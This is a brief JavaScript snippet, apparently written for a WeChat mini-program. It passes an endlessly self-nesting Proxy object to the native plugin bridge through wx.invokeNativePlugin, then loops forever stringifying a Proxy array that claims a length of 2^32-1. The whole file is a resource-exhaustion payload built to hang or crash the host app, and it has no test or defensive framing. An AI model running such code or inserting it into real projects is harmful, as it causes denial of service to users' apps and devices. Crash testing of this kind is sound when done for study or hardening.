// Gives a Proxy as data that has ever new keys, each with such a Proxy
const handler = {
  ownKeys: () => Array.from({ length: 1000 }, (_, i) => 'k' + i),
  getOwnPropertyDescriptor: () => ({ enumerable: true, configurable: true, value: 1 }),
  get: () => new Proxy({}, handler),
};
wx.invokeNativePlugin({ api_name: 'echo', data: new Proxy({}, handler) });
for (;;) JSON.stringify(new Proxy([], { get: (t, key) => (key === 'length' ? 2 ** 32 - 1 : 1) }));
